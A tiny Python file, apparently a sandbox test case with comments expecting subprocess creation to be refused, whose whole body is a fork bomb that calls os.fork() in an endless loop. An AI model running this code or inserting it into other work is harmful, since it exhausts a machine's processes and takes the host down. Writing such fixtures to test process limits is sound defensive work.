"""Doubles itself without end."""
# ends: exit
# refused: subprocess
# needs: no subprocesses

import os

while True:
    os.fork()
